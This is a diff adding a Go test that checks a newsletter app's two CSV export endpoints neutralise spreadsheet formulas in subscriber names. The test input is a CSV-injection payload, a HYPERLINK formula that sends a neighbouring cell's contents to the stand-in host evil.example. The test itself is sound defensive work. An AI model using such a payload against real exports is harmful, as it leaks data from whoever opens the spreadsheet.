@@ -3,8 +3,11 @@ package web_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"mime/multipart"
 	"net/http"
+	"net/url"
+	"strings"
 	"testing"
 
 	"newsletter/internal/newsletter"
@@ -115,6 +118,31 @@ func TestAdminRefusesOtherSites(t *testing.T) {
 			}
 			if n, _, _ := f.svc.List(ctx, roster.Filter{}); len(n) != 2 {
 				t.Errorf("%d subscribers after a refused request, want 2", len(n))
+			}
+		})
+	}
+}
+
+// TestExportsNeutraliseFormulas signs up a hostile name through the public form and reads
+// it back from both CSV exports.
+func TestExportsNeutraliseFormulas(t *testing.T) {
+	f := setupSignup(t, 100, 100)
+	name := `=HYPERLINK("http://evil.example/?x="&A2,"Click")`
+	if code, body := f.signUp(t, url.Values{"email": {"mallory@example.com"}, "name": {name}, "form_token": {f.formToken(t)}}); code != http.StatusOK {
+		t.Fatalf("sign-up: %d\n%s", code, body)
+	}
+	for _, path := range []string{"/admin/export.csv", "/api/subscribers/export"} {
+		t.Run(path, func(t *testing.T) {
+			code, body := f.api(t, http.MethodGet, path, "", true)
+			if code != http.StatusOK {
+				t.Fatalf("%d\n%s", code, body)
+			}
+			recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+			if err != nil || len(recs) != 2 {
+				t.Fatalf("%v\n%s", err, body)
+			}
+			if recs[1][1] != "'"+name {
+				t.Errorf("name cell %q, want %q", recs[1][1], "'"+name)
 			}
 		})
 	}
